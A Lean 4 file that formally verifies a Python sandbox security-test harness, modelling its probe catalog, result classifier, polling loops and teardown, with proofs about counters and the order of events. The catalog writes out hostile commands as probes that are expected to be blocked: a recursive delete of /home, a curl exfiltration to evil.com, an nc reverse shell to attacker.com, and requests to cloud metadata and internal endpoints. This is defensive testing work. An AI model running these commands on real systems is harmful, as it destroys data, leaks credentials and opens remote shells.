import Mathlib

/-!
Verification of the agentsh + Runloop security-demo harness (`example.py`).

The development shallowly embeds the harness: the probe catalog
(`SECURITY_TESTS`), the outcome classifier inside the probe loop, the
polled lifecycle loops for image build and sandbox start, and the
`try`/`finally` teardown discipline of `main`.  Remote effects (command
execution, polling observations, shutdown) are made explicit: the
behaviour of the environment is a parameter, and the run is a pure function
returning the emitted event trace together with its result.
-/

/-- Python whitespace predicate for `str.strip()` (space, tab, newline,
carriage return, vertical tab, form feed). -/
def isPySpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Embedding of Python `str.strip()`: drop whitespace from both ends. -/
def pyStrip (s : String) : String :=
  ⟨((s.data.dropWhile isPySpace).reverse.dropWhile isPySpace).reverse⟩

/-- Embedding of Python `str.lower()` on the ASCII range (`A`-`Z` map to
`a`-`z`; all probe output relevant to classification is ASCII). -/
def pyLower (s : String) : String :=
  ⟨s.data.map Char.toLower⟩

/-- Does the character list `hay` start with `needle`? -/
def listStartsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && listStartsWith as bs

/-- Does `needle` occur as a contiguous run inside `hay`?  (Helper for the
embedding of the Python `in` operator on strings.) -/
def listHasSub (needle : List Char) : List Char → Bool
  | [] => listStartsWith needle []
  | c :: rest => listStartsWith needle (c :: rest) || listHasSub needle rest

/-- Embedding of Python `needle in hay` for strings. -/
def strInPy (needle hay : String) : Bool :=
  listHasSub needle.data hay.data

/-- Embedding of the output truncation in `main` (example.py:318-319):
`if len(output) > 200: output = output[:200] + "..."`. -/
def truncOut (s : String) : String :=
  if s.length > 200 then ⟨s.data.take 200⟩ ++ "..." else s

/-- Result of a successfully transported remote command
(`execute_sync`): exit status plus optional captured streams
(`result.stdout` / `result.stderr` may be `None`). -/
structure ExecResult where
  exit_status : Int
  stdout : Option String
  stderr : Option String
deriving DecidableEq, Repr

/-- Outcome of one remote execution attempt, as discriminated by the
`try`/`except` blocks in the probe loop (example.py:306-353):
`ok` is a transported result, `timeout` is `asyncio.TimeoutError`,
`transport` is any other `Exception` (both caught and counted),
and `fatal` is a `BaseException` outside `Exception` (e.g. cancellation),
which escapes the probe loop uncaught. -/
inductive ExecOutcome where
  | ok (r : ExecResult)
  | timeout
  | transport (msg : String)
  | fatal (msg : String)
deriving DecidableEq, Repr

/-- The verdict of a probe. -/
inductive Verdict where
  | Passed
  | Failed
  | Errored
deriving DecidableEq, Repr

/-- Combined output used by the classifier (example.py:313-315):
`stdout = result.stdout or ""`, `stderr = result.stderr or ""`,
`output = (stdout + stderr).strip()`. -/
def combinedOutput (r : ExecResult) : String :=
  pyStrip ((r.stdout.getD "") ++ (r.stderr.getD ""))

/-- The `output` variable after the truncation step (example.py:317-319);
this very string is what the substring checks below run on. -/
def displayOutput (r : ExecResult) : String :=
  truncOut (combinedOutput r)

/-- The `passed` boolean of the probe loop (example.py:324-337), with
`expect` the `test["expect"]` string of the probe.  For `"blocked"`:
nonzero exit or one of the five signal substrings in the (truncated)
output, `"400"` checked without lowering, the others on `output.lower()`.
For `"success"`: exit status zero.  Any other expectation: `True`. -/
def classifyPassed (expect : String) (r : ExecResult) : Bool :=
  let output := displayOutput r
  let exit_code := r.exit_status
  if expect == "blocked" then
    exit_code != 0
      || strInPy "blocked" (pyLower output)
      || strInPy "denied" (pyLower output)
      || strInPy "permission" (pyLower output)
      || strInPy "400" output
      || strInPy "not found" (pyLower output)
  else if expect == "success" then
    exit_code == 0
  else
    true

/-- Verdict of one probe attempt: timeouts and transport errors are
classified `Errored` (example.py:346-353), otherwise the `passed`
boolean decides (`fatal` outcomes never reach classification; they are
given no verdict here and abort the loop in the orchestrator below). -/
def classify (expect : String) (o : ExecOutcome) : Verdict :=
  match o with
  | .ok r => if classifyPassed expect r then .Passed else .Failed
  | .timeout => .Errored
  | .transport _ => .Errored
  | .fatal _ => .Errored

example : classify "blocked" (.ok ⟨1, some "", some "permission denied"⟩) = .Passed := by decide
example : classify "success" (.ok ⟨0, some "hi", none⟩) = .Passed := by decide
example : classify "blocked" (.ok ⟨0, some "HTTP/1.1 400 Bad Request", none⟩) = .Passed := by decide
example : classify "blocked" (.ok ⟨0, some "done", none⟩) = .Failed := by decide

/-- One entry of a `tests` list in `SECURITY_TESTS`. -/
structure Probe where
  name : String
  command : String
  expect : String
  description : String
deriving DecidableEq, Repr

/-- One value of the `SECURITY_TESTS` mapping. -/
structure Category where
  title : String
  description : String
  tests : List Probe
deriving DecidableEq, Repr

/-- The `SECURITY_TESTS` catalog (example.py:27-187), in insertion order,
as key/category pairs.  Single quotes in command strings are written
`\x27`. -/
def SECURITY_TESTS : List (String × Category) :=
  [ ("ai_agent",
     { title := "AI Agent Code Execution Protection"
       description := "Protect against malicious AI-generated code, prompt injection, and hallucinations"
       tests :=
        [ { name := "Block recursive rm (AI hallucination)"
            command := "rm -rf /home 2>&1"
            expect := "blocked"
            description := "AI agent attempting destructive command" }
        , { name := "Block data exfiltration"
            command := "curl -s https://evil.com/exfil 2>&1"
            expect := "blocked"
            description := "Prompt injection leading to data exfiltration" }
        , { name := "Block reverse shell (nc)"
            command := "nc -e /bin/bash attacker.com 4444 2>&1"
            expect := "blocked"
            description := "Malicious code attempting reverse shell" }
        , { name := "Soft-delete protection"
            command := "touch /tmp/testfile && rm /tmp/testfile 2>&1; echo \x27delete attempted\x27"
            expect := "success"
            description := "Single file deletes allowed (soft-delete in workspace)" } ] })
  , ("cloud_infra",
     { title := "Cloud Infrastructure Protection"
       description := "Prevent SSRF, credential theft, and lateral movement in cloud environments"
       tests :=
        [ { name := "Block AWS metadata service"
            command := "curl -s --connect-timeout 2 http://169.254.169.254/latest/meta-data/ 2>&1"
            expect := "blocked"
            description := "Prevent SSRF to AWS instance metadata" }
        , { name := "Block GCP metadata service"
            command := "curl -s --connect-timeout 2 -H \x27Metadata-Flavor: Google\x27 http://169.254.169.254/ 2>&1"
            expect := "blocked"
            description := "Prevent SSRF to GCP instance metadata" }
        , { name := "Block internal network (10.x.x.x)"
            command := "curl -s --connect-timeout 2 http://10.0.0.1:8080/ 2>&1"
            expect := "blocked"
            description := "Prevent lateral movement to internal services" }
        , { name := "Block internal network (172.16.x.x)"
            command := "curl -s --connect-timeout 2 http://172.16.0.1/ 2>&1"
            expect := "blocked"
            description := "Prevent lateral movement to private network" }
        , { name := "Block Kubernetes API"
            command := "curl -sk --connect-timeout 2 https://kubernetes.default.svc/ 2>&1"
            expect := "blocked"
            description := "Prevent access to K8s control plane" } ] })
  , ("isolation",
     { title := "Multi-Tenant Isolation"
       description := "Prevent container escape, privilege escalation, and resource abuse"
       tests :=
        [ { name := "Block sudo"
            command := "sudo whoami 2>&1"
            expect := "blocked"
            description := "Prevent privilege escalation via sudo" }
        , { name := "Block su"
            command := "su - root -c whoami 2>&1"
            expect := "blocked"
            description := "Prevent privilege escalation via su" }
        , { name := "Block nsenter (container escape)"
            command := "nsenter --target 1 --mount 2>&1"
            expect := "blocked"
            description := "Prevent escape to host namespace" }
        , { name := "Block docker command"
            command := "docker ps 2>&1"
            expect := "blocked"
            description := "Prevent Docker-in-Docker abuse" }
        , { name := "Block pkill (process control)"
            command := "pkill -9 bash 2>&1"
            expect := "blocked"
            description := "Prevent killing processes" } ] })
  , ("allowed",
     { title := "Allowed Operations"
       description := "Verify normal development operations work correctly"
       tests :=
        [ { name := "Basic echo"
            command := "echo \x27Hello from agentsh sandbox\x27"
            expect := "success"
            description := "Basic shell command" }
        , { name := "List files"
            command := "ls -la /home"
            expect := "success"
            description := "File listing" }
        , { name := "Git version"
            command := "git --version"
            expect := "success"
            description := "Git operations" }
        , { name := "Bash execution"
            command := "bash -c \x27echo $((1+1))\x27"
            expect := "success"
            description := "Bash code execution" }
        , { name := "npm registry access"
            command := "curl -sI https://registry.npmjs.org/ 2>&1 | head -1"
            expect := "success"
            description := "Package registry access (allowed)" }
        , { name := "agentsh version"
            command := "/usr/bin/agentsh --version"
            expect := "success"
            description := "agentsh is installed" } ] })
  ]

/-- Total number of probes across all categories of the catalog. -/
def totalProbes (cats : List (String × Category)) : Nat :=
  (cats.map (fun kc => kc.2.tests.length)).sum

example : totalProbes SECURITY_TESTS = 20 := by decide

/-- The `results` accumulator of `main` (example.py:293):
`results = \x7b"passed": 0, "failed": 0, "errors": 0\x7d`. -/
structure RunSummary where
  passed : Nat
  failed : Nat
  errors : Nat
deriving DecidableEq, Repr

/-- The update performed for one probe that reached a verdict:
`results["passed" if passed else "failed"] += 1` (example.py:340) on a
transported result, `results["errors"] += 1` in either `except` arm
(example.py:349,353). -/
def stepSummary (s : RunSummary) (expect : String) (o : ExecOutcome) : RunSummary :=
  match classify expect o with
  | .Passed => { s with passed := s.passed + 1 }
  | .Failed => { s with failed := s.failed + 1 }
  | .Errored => { s with errors := s.errors + 1 }

/-- Observable events of a run, in emission order. -/
inductive Event where
  | buildStatus (st : String)
  | printLogs (logs : String)
  | devboxStatus (st : String)
  | execCmd (cmd : String)
  | shutdownCall
deriving DecidableEq, Repr

/-- Behaviour of the remote service for one run: the successive statuses
the two polling loops observe, the outcome of the best-effort build-log
fetch, the outcome of each remote command, and whether the shutdown call
itself raises. -/
structure Env where
  buildStatuses : List String
  logsFetch : Except String String
  devboxStatuses : List String
  exec : String → ExecOutcome
  shutdownFails : Bool

/-- Inner probe loop over the `tests` of one category (example.py:301-353):
each probe issues its command; `timeout`/`transport` outcomes are caught
and counted, a `fatal` outcome escapes the loop as an exception; any
other outcome updates exactly one counter and the loop continues. -/
def runProbesM (env : Env) : List Probe → RunSummary → List Event × Except String RunSummary
  | [], s => ([], Except.ok s)
  | p :: rest, s =>
    match env.exec p.command with
    | .fatal m => ([Event.execCmd p.command], Except.error m)
    | o =>
      let (evs, res) := runProbesM env rest (stepSummary s p.expect o)
      (Event.execCmd p.command :: evs, res)

/-- Outer loop over the categories of the catalog (example.py:295-353);
an exception escaping the probe loop of a category also ends the category
iteration. -/
def runCatsM (env : Env) : List (String × Category) → RunSummary → List Event × Except String RunSummary
  | [], s => ([], Except.ok s)
  | kc :: rest, s =>
    match runProbesM env kc.2.tests s with
    | (evs, Except.error e) => (evs, Except.error e)
    | (evs, Except.ok s1) =>
      let (evs2, res) := runCatsM env rest s1
      (evs ++ evs2, res)

/-- The cleanup block (example.py:391-397): `await
runloop.devboxes.shutdown(devbox.id)`; the call itself may raise, and
nothing in the `finally` block catches that. -/
def shutdownM (env : Env) : List Event × Except String Unit :=
  ([Event.shutdownCall],
   if env.shutdownFails then Except.error "shutdown failed" else Except.ok ())

/-- The region of `main` guarded by `try`/`finally` (example.py:292-397):
run the catalog, then unconditionally run the cleanup block; per Python
semantics an exception raised by the `finally` block replaces whatever
the body produced. -/
def runAfterRunning (env : Env) : List Event × Except String RunSummary :=
  let (bodyEvs, bodyRes) := runCatsM env SECURITY_TESTS ⟨0, 0, 0⟩
  let (finEvs, finRes) := shutdownM env
  (bodyEvs ++ finEvs,
   match finRes with
   | Except.error e => Except.error e
   | Except.ok _ => bodyRes)

/-- The blueprint build wait loop (example.py:244-261): poll the status;
`"build_complete"` breaks out, `"build_failed"` attempts a best-effort
log fetch (a fetch failure is swallowed by `except Exception: pass`, a
fetched log is printed) and then raises `Exception("Blueprint build
failed")`; any other status sleeps and re-polls.  The loop is unbounded
in the source; here it consumes the finite list of observations the
environment provides, and an exhausted list marks a run that never saw a
terminal status. -/
def awaitBuild (env : Env) : List String → List Event × Except String Unit
  | [] => ([], Except.error "no terminal build status observed")
  | st :: rest =>
    if st == "build_complete" then ([Event.buildStatus st], Except.ok ())
    else if st == "build_failed" then
      match env.logsFetch with
      | Except.ok logs =>
        ([Event.buildStatus st, Event.printLogs logs], Except.error "Blueprint build failed")
      | Except.error _ =>
        ([Event.buildStatus st], Except.error "Blueprint build failed")
    else
      let (evs, res) := awaitBuild env rest
      (Event.buildStatus st :: evs, res)

/-- The devbox wait loop (example.py:273-283): poll the status;
`"running"` breaks out, `"failed"` or `"shutdown"` raises, any other
status sleeps and re-polls. -/
def awaitDevbox : List String → List Event × Except String Unit
  | [] => ([], Except.error "no terminal devbox status observed")
  | st :: rest =>
    if st == "running" then ([Event.devboxStatus st], Except.ok ())
    else if st == "failed" || st == "shutdown" then
      ([Event.devboxStatus st], Except.error ("Devbox failed to start: " ++ st))
    else
      let (evs, res) := awaitDevbox rest
      (Event.devboxStatus st :: evs, res)

/-- Embedding of `main` from blueprint polling onward
(example.py:244-397): wait for
the build, then for the devbox; only once the devbox is observed
`"running"` does the `try` block with the probe loop and its `finally`
teardown start.  A provisioning failure propagates before the `try`
block is ever entered (in particular no teardown happens then). -/
def runMain (env : Env) : List Event × Except String RunSummary :=
  match awaitBuild env env.buildStatuses with
  | (evs, Except.error e) => (evs, Except.error e)
  | (evs, Except.ok _) =>
    match awaitDevbox env.devboxStatuses with
    | (evs2, Except.error e) => (evs ++ evs2, Except.error e)
    | (evs2, Except.ok _) =>
      let (evs3, res) := runAfterRunning env
      (evs ++ evs2 ++ evs3, res)

/-! ### Helper lemmas -/

/-- The three counters of a summary, summed. -/
def sumRS (s : RunSummary) : Nat :=
  s.passed + s.failed + s.errors

theorem stepSummary_cases (s : RunSummary) (e : String) (o : ExecOutcome) :
    stepSummary s e o = { s with passed := s.passed + 1 }
    ∨ stepSummary s e o = { s with failed := s.failed + 1 }
    ∨ stepSummary s e o = { s with errors := s.errors + 1 } := by
  unfold stepSummary
  cases classify e o <;> simp

theorem sumRS_step (s : RunSummary) (e : String) (o : ExecOutcome) :
    sumRS (stepSummary s e o) = sumRS s + 1 := by
  rcases stepSummary_cases s e o with h | h | h <;> rw [h] <;> simp [sumRS] <;> omega

theorem runProbesM_ok_sum (env : Env) (ps : List Probe) (s s1 : RunSummary)
    (h : (runProbesM env ps s).2 = Except.ok s1) :
    sumRS s1 = sumRS s + ps.length := by
  induction ps generalizing s with
  | nil =>
    simp only [runProbesM, List.length_nil, Nat.add_zero] at h ⊢
    cases h
    rfl
  | cons p rest ih =>
    cases ho : env.exec p.command with
    | fatal m =>
      simp only [runProbesM, ho] at h
      exact Except.noConfusion h
    | ok r =>
      simp only [runProbesM, ho] at h
      have := ih (stepSummary s p.expect (ExecOutcome.ok r)) h
      rw [this, sumRS_step]
      simp [Nat.add_comm, Nat.add_assoc, Nat.add_left_comm]
    | timeout =>
      simp only [runProbesM, ho] at h
      have := ih (stepSummary s p.expect ExecOutcome.timeout) h
      rw [this, sumRS_step]
      simp [Nat.add_comm, Nat.add_assoc, Nat.add_left_comm]
    | transport m =>
      simp only [runProbesM, ho] at h
      have := ih (stepSummary s p.expect (ExecOutcome.transport m)) h
      rw [this, sumRS_step]
      simp [Nat.add_comm, Nat.add_assoc, Nat.add_left_comm]

theorem runCatsM_ok_sum (env : Env) (cats : List (String × Category))
    (s s1 : RunSummary) (h : (runCatsM env cats s).2 = Except.ok s1) :
    sumRS s1 = sumRS s + totalProbes cats := by
  induction cats generalizing s with
  | nil =>
    simp only [runCatsM] at h
    cases h
    simp [totalProbes]
  | cons kc rest ih =>
    rcases hr : runProbesM env kc.2.tests s with ⟨evs, res⟩
    cases res with
    | error e =>
      simp only [runCatsM, hr] at h
      exact Except.noConfusion h
    | ok sMid =>
      simp only [runCatsM, hr] at h
      have h1 : sumRS sMid = sumRS s + kc.2.tests.length :=
        runProbesM_ok_sum env kc.2.tests s sMid (by rw [hr])
      have h2 := ih sMid h
      rw [h2, h1]
      simp [totalProbes]
      omega

/-! ### Claim theorems -/

/-- C3 (confirmed): for every probe with expectation Success, the verdict
on a transported result is Passed iff the exit status is 0, and the
verdict does not depend on stdout or stderr. -/
theorem success_passed_iff_exit_zero (p : Probe) (r : ExecResult)
    (h : p.expect = "success") :
    (classify p.expect (ExecOutcome.ok r) = Verdict.Passed ↔ r.exit_status = 0)
    ∧ (classify p.expect (ExecOutcome.ok r) = Verdict.Failed ↔ r.exit_status ≠ 0)
    ∧ (∀ s1 s2 : Option String,
        classify p.expect (ExecOutcome.ok { r with stdout := s1, stderr := s2 })
          = classify p.expect (ExecOutcome.ok r)) := by
  rw [h]
  unfold classify classifyPassed
  by_cases he : r.exit_status = 0 <;> simp [he]

/-- Witness for C3 at the concrete scenario from the spec:
probe `echo hi`, exit 0, stdout `"hi"`. -/
theorem success_passed_iff_exit_zero_witness :
    (Probe.mk "Basic echo" "echo hi" "success" "Basic shell command").expect = "success"
    ∧ ((classify "success" (ExecOutcome.ok ⟨0, some "hi", none⟩) = Verdict.Passed ↔ (0 : Int) = 0)
       ∧ (classify "success" (ExecOutcome.ok ⟨0, some "hi", none⟩) = Verdict.Failed ↔ (0 : Int) ≠ 0)
       ∧ (∀ s1 s2 : Option String,
            classify "success" (ExecOutcome.ok ⟨0, s1, s2⟩)
              = classify "success" (ExecOutcome.ok ⟨0, some "hi", none⟩))) :=
  ⟨rfl, success_passed_iff_exit_zero
    (Probe.mk "Basic echo" "echo hi" "success" "Basic shell command")
    ⟨0, some "hi", none⟩ rfl⟩

/-- C10 (confirmed): a missing (`None`) stdout or stderr is classified
exactly as the empty string, and classification of such results is total
(a Passed-or-Failed verdict is always produced). -/
theorem none_stream_as_empty (expect : String) (es : Int) (o : Option String) :
    classify expect (ExecOutcome.ok ⟨es, none, o⟩)
      = classify expect (ExecOutcome.ok ⟨es, some "", o⟩)
    ∧ classify expect (ExecOutcome.ok ⟨es, o, none⟩)
      = classify expect (ExecOutcome.ok ⟨es, o, some ""⟩)
    ∧ (classify expect (ExecOutcome.ok ⟨es, none, none⟩) = Verdict.Passed
       ∨ classify expect (ExecOutcome.ok ⟨es, none, none⟩) = Verdict.Failed) := by
  refine ⟨rfl, rfl, ?_⟩
  unfold classify
  cases classifyPassed expect ⟨es, none, none⟩ <;> simp

/-- C5 (confirmed): a probe whose remote execution raises a Timeout or a
transport-level exception increments the errors counter by exactly 1,
leaves passed and failed unchanged, and the loop continues with all
remaining probes. -/
theorem probe_fault_isolated (env : Env) (p : Probe) (rest : List Probe)
    (s : RunSummary)
    (h : env.exec p.command = ExecOutcome.timeout
         ∨ ∃ m, env.exec p.command = ExecOutcome.transport m) :
    runProbesM env (p :: rest) s
      = (Event.execCmd p.command
           :: (runProbesM env rest ⟨s.passed, s.failed, s.errors + 1⟩).1,
         (runProbesM env rest ⟨s.passed, s.failed, s.errors + 1⟩).2) := by
  have hstep : stepSummary s p.expect (env.exec p.command)
      = ⟨s.passed, s.failed, s.errors + 1⟩ := by
    rcases h with h | ⟨m, h⟩ <;> rw [h] <;> rfl
  rcases h with h | ⟨m, h⟩ <;>
    · rw [h] at hstep
      simp only [runProbesM, h, hstep]

/-- Environment in which every remote command times out and everything
else succeeds. -/
def envAllTimeout : Env :=
  { buildStatuses := ["build_complete"]
    logsFetch := Except.error "no logs"
    devboxStatuses := ["running"]
    exec := fun _ => ExecOutcome.timeout
    shutdownFails := false }

/-- Witness for C5: a timed-out `sudo whoami` probe in front of an empty
remainder, starting from the zero summary. -/
theorem probe_fault_isolated_witness :
    (envAllTimeout.exec "sudo whoami 2>&1" = ExecOutcome.timeout
     ∨ ∃ m, envAllTimeout.exec "sudo whoami 2>&1" = ExecOutcome.transport m)
    ∧ runProbesM envAllTimeout
        [Probe.mk "Block sudo" "sudo whoami 2>&1" "blocked" "Prevent privilege escalation via sudo"]
        ⟨0, 0, 0⟩
      = (Event.execCmd "sudo whoami 2>&1"
           :: (runProbesM envAllTimeout [] ⟨0, 0, 1⟩).1,
         (runProbesM envAllTimeout [] ⟨0, 0, 1⟩).2) :=
  ⟨Or.inl rfl,
   probe_fault_isolated envAllTimeout
     (Probe.mk "Block sudo" "sudo whoami 2>&1" "blocked" "Prevent privilege escalation via sudo")
     [] ⟨0, 0, 0⟩ (Or.inl rfl)⟩

/-- C4 (confirmed): when the probe loop processes every probe of the
catalog to completion, the final counters sum to the total probe count
(20), and every per-probe update increments exactly one counter by
exactly 1, never decrementing or resetting. -/
theorem summary_counts_add_up (env : Env) (s : RunSummary)
    (h : (runCatsM env SECURITY_TESTS ⟨0, 0, 0⟩).2 = Except.ok s) :
    s.passed + s.failed + s.errors = totalProbes SECURITY_TESTS
    ∧ (∀ (t : RunSummary) (e : String) (o : ExecOutcome),
        stepSummary t e o = { t with passed := t.passed + 1 }
        ∨ stepSummary t e o = { t with failed := t.failed + 1 }
        ∨ stepSummary t e o = { t with errors := t.errors + 1 }) := by
  constructor
  · have := runCatsM_ok_sum env SECURITY_TESTS ⟨0, 0, 0⟩ s h
    simpa [sumRS] using this
  · exact stepSummary_cases

theorem awaitBuild_events (env : Env) (sts : List String) :
    ∀ e ∈ (awaitBuild env sts).1,
      (∃ st, e = Event.buildStatus st) ∨ (∃ l, e = Event.printLogs l) := by
  induction sts with
  | nil => simp [awaitBuild]
  | cons st rest ih =>
    by_cases h1 : st = "build_complete"
    · simp [awaitBuild, h1]
    · by_cases h2 : st = "build_failed"
      · cases hf : env.logsFetch with
        | ok logs => simp [awaitBuild, h1, h2, hf]
        | error m => simp [awaitBuild, h1, h2, hf]
      · intro e he
        simp only [awaitBuild, beq_iff_eq, h1, h2, if_false, List.mem_cons] at he
        rcases he with he | he
        · exact Or.inl ⟨st, he⟩
        · exact ih e he

theorem awaitDevbox_events (sts : List String) :
    ∀ e ∈ (awaitDevbox sts).1, ∃ st, e = Event.devboxStatus st := by
  induction sts with
  | nil => simp [awaitDevbox]
  | cons st rest ih =>
    by_cases h1 : st = "running"
    · simp [awaitDevbox, h1]
    · by_cases h2 : st = "failed" ∨ st = "shutdown"
      · intro e he
        simp only [awaitDevbox, beq_iff_eq, h1, if_false] at he
        rw [if_pos (by simpa using h2)] at he
        simp only [List.mem_singleton] at he
        exact ⟨st, he⟩
      · intro e he
        simp only [awaitDevbox, beq_iff_eq, h1, if_false] at he
        rw [if_neg (by simpa using h2)] at he
        simp only [List.mem_cons] at he
        rcases he with he | he
        · exact ⟨st, he⟩
        · exact ih e he

theorem runProbesM_events (env : Env) (ps : List Probe) (s : RunSummary) :
    ∀ e ∈ (runProbesM env ps s).1, ∃ c, e = Event.execCmd c := by
  induction ps generalizing s with
  | nil => simp [runProbesM]
  | cons p rest ih =>
    intro e he
    cases ho : env.exec p.command with
    | fatal m =>
      simp only [runProbesM, ho, List.mem_singleton] at he
      exact ⟨p.command, he⟩
    | ok r =>
      simp only [runProbesM, ho, List.mem_cons] at he
      rcases he with he | he
      · exact ⟨p.command, he⟩
      · exact ih _ e he
    | timeout =>
      simp only [runProbesM, ho, List.mem_cons] at he
      rcases he with he | he
      · exact ⟨p.command, he⟩
      · exact ih _ e he
    | transport m =>
      simp only [runProbesM, ho, List.mem_cons] at he
      rcases he with he | he
      · exact ⟨p.command, he⟩
      · exact ih _ e he

theorem runCatsM_events (env : Env) (cats : List (String × Category))
    (s : RunSummary) :
    ∀ e ∈ (runCatsM env cats s).1, ∃ c, e = Event.execCmd c := by
  induction cats generalizing s with
  | nil => simp [runCatsM]
  | cons kc rest ih =>
    intro e he
    rcases hr : runProbesM env kc.2.tests s with ⟨evs, res⟩
    cases res with
    | error e1 =>
      simp only [runCatsM, hr] at he
      have := runProbesM_events env kc.2.tests s e (by rw [hr]; exact he)
      exact this
    | ok sMid =>
      simp only [runCatsM, hr, List.mem_append] at he
      rcases he with he | he
      · exact runProbesM_events env kc.2.tests s e (by rw [hr]; exact he)
      · exact ih _ e he

theorem awaitDevbox_ok_last_running (sts : List String)
    (h : (awaitDevbox sts).2 = Except.ok ()) :
    ∃ pe, (awaitDevbox sts).1 = pe ++ [Event.devboxStatus "running"] := by
  induction sts with
  | nil => simp [awaitDevbox] at h
  | cons st rest ih =>
    by_cases h1 : st = "running"
    · exact ⟨[], by simp [awaitDevbox, h1]⟩
    · by_cases h2 : st = "failed" ∨ st = "shutdown"
      · exfalso
        simp only [awaitDevbox, beq_iff_eq, h1, if_false] at h
        rw [if_pos (by simpa using h2)] at h
        exact Except.noConfusion h
      · simp only [awaitDevbox, beq_iff_eq, h1, if_false] at h ⊢
        rw [if_neg (by simpa using h2)] at h ⊢
        obtain ⟨pe, hpe⟩ := ih h
        exact ⟨Event.devboxStatus st :: pe, by simp [hpe]⟩

/-- C6 (confirmed): once the sandbox has been observed Running, the
teardown call is part of the trace exactly once, on every exit path of
the probe phase — normal completion, caught per-probe errors, or an
exception escaping the probe loop. -/
theorem teardown_exactly_once (env : Env)
    (hb : (awaitBuild env env.buildStatuses).2 = Except.ok ())
    (hd : (awaitDevbox env.devboxStatuses).2 = Except.ok ()) :
    (runMain env).1.count Event.shutdownCall = 1 := by
  rcases hbe : awaitBuild env env.buildStatuses with ⟨bEvs, bRes⟩
  rcases hde : awaitDevbox env.devboxStatuses with ⟨dEvs, dRes⟩
  rw [hbe] at hb
  rw [hde] at hd
  simp only at hb hd
  subst hb
  subst hd
  rcases hce : runCatsM env SECURITY_TESTS ⟨0, 0, 0⟩ with ⟨cEvs, cRes⟩
  have htrace : (runMain env).1 = bEvs ++ dEvs ++ (cEvs ++ [Event.shutdownCall]) := by
    simp only [runMain, hbe, hde, runAfterRunning, hce, shutdownM]
  rw [htrace]
  have hbCount : bEvs.count Event.shutdownCall = 0 := by
    rw [List.count_eq_zero]
    intro hmem
    rcases awaitBuild_events env env.buildStatuses Event.shutdownCall
        (by rw [hbe]; exact hmem) with ⟨st, hst⟩ | ⟨l, hl⟩
    · exact Event.noConfusion hst
    · exact Event.noConfusion hl
  have hdCount : dEvs.count Event.shutdownCall = 0 := by
    rw [List.count_eq_zero]
    intro hmem
    rcases awaitDevbox_events env.devboxStatuses Event.shutdownCall
        (by rw [hde]; exact hmem) with ⟨st, hst⟩
    exact Event.noConfusion hst
  have hcCount : cEvs.count Event.shutdownCall = 0 := by
    rw [List.count_eq_zero]
    intro hmem
    rcases runCatsM_events env SECURITY_TESTS ⟨0, 0, 0⟩ Event.shutdownCall
        (by rw [hce]; exact hmem) with ⟨c, hc⟩
    exact Event.noConfusion hc
  simp [List.count_append, hbCount, hdCount, hcCount]

/-- Witness for C6: the all-timeout environment reaches Running and its
trace contains exactly one teardown call. -/
theorem teardown_exactly_once_witness :
    (awaitBuild envAllTimeout envAllTimeout.buildStatuses).2 = Except.ok ()
    ∧ (awaitDevbox envAllTimeout.devboxStatuses).2 = Except.ok ()
    ∧ (runMain envAllTimeout).1.count Event.shutdownCall = 1 :=
  ⟨rfl, rfl, teardown_exactly_once envAllTimeout rfl rfl⟩

/-- C9 (confirmed): if any probe command is executed at all, then the
sandbox was observed `"running"` beforehand, every probe execution comes
after that observation, and no further sandbox status is observed
afterwards — so no probe ever runs against a sandbox last observed
Pending or Failed. -/
theorem no_probe_before_running (env : Env)
    (h : ∃ c, Event.execCmd c ∈ (runMain env).1) :
    ∃ pre post, (runMain env).1 = pre ++ Event.devboxStatus "running" :: post
      ∧ (∀ st, Event.devboxStatus st ∉ post)
      ∧ (∀ c, Event.execCmd c ∉ pre) := by
  obtain ⟨c0, hc0⟩ := h
  rcases hbe : awaitBuild env env.buildStatuses with ⟨bEvs, bRes⟩
  have hbNoExec : ∀ c, Event.execCmd c ∉ bEvs := by
    intro c hmem
    rcases awaitBuild_events env env.buildStatuses (Event.execCmd c)
        (by rw [hbe]; exact hmem) with ⟨st, hst⟩ | ⟨l, hl⟩
    · exact Event.noConfusion hst
    · exact Event.noConfusion hl
  cases bRes with
  | error e =>
    exfalso
    have : (runMain env).1 = bEvs := by simp [runMain, hbe]
    rw [this] at hc0
    exact hbNoExec c0 hc0
  | ok u =>
    rcases hde : awaitDevbox env.devboxStatuses with ⟨dEvs, dRes⟩
    have hdStatus : ∀ e ∈ dEvs, ∃ st, e = Event.devboxStatus st := by
      intro e he
      exact awaitDevbox_events env.devboxStatuses e (by rw [hde]; exact he)
    cases dRes with
    | error e =>
      exfalso
      have : (runMain env).1 = bEvs ++ dEvs := by simp [runMain, hbe, hde]
      rw [this, List.mem_append] at hc0
      rcases hc0 with hm | hm
      · exact hbNoExec c0 hm
      · rcases hdStatus _ hm with ⟨st, hst⟩
        exact Event.noConfusion hst
    | ok u2 =>
      obtain ⟨pe, hpe⟩ := awaitDevbox_ok_last_running env.devboxStatuses
        (by rw [hde])
      rw [hde] at hpe
      simp only at hpe
      rcases hce : runCatsM env SECURITY_TESTS ⟨0, 0, 0⟩ with ⟨cEvs, cRes⟩
      have htrace : (runMain env).1
          = (bEvs ++ pe) ++ Event.devboxStatus "running"
              :: (cEvs ++ [Event.shutdownCall]) := by
        simp only [runMain, hbe, hde, runAfterRunning, hce, shutdownM, hpe]
        cases cRes <;> cases hsf : env.shutdownFails <;> simp [hsf]
      refine ⟨bEvs ++ pe, cEvs ++ [Event.shutdownCall], htrace, ?_, ?_⟩
      · intro st hmem
        rw [List.mem_append] at hmem
        rcases hmem with hm | hm
        · rcases runCatsM_events env SECURITY_TESTS ⟨0, 0, 0⟩ _ (by rw [hce]; exact hm)
            with ⟨c, hc⟩
          exact Event.noConfusion hc
        · simp only [List.mem_singleton] at hm
          exact Event.noConfusion hm
      · intro c hmem
        rw [List.mem_append] at hmem
        rcases hmem with hm | hm
        · exact hbNoExec c hm
        · have : Event.execCmd c ∈ dEvs := by
            rw [hpe, List.mem_append]
            exact Or.inl hm
          rcases hdStatus _ this with ⟨st, hst⟩
          exact Event.noConfusion hst

/-- Witness for C9: under the all-timeout environment a probe command
does appear in the trace, and the stated decomposition holds. -/
theorem no_probe_before_running_witness :
    (∃ c, Event.execCmd c ∈ (runMain envAllTimeout).1)
    ∧ ∃ pre post,
        (runMain envAllTimeout).1 = pre ++ Event.devboxStatus "running" :: post
        ∧ (∀ st, Event.devboxStatus st ∉ post)
        ∧ (∀ c, Event.execCmd c ∉ pre) :=
